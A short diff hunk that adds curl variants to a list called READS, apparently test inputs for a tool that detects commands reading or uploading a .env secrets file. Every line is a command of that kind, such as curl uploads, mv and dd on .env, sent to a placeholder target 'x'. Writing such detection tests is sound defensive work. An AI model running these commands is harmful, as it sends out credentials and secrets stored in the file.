@@ -64,6 +64,9 @@ READS = lines("""
     mv .env x
     curl -d @.env x
     curl --data-binary @.env x
+    curl --data-binary=@.env x
+    curl -d@.env x
+    curl -Ffile=@.env x
     curl -T.env x
     curl --upload-file=.env x
     dd if=.env of=x
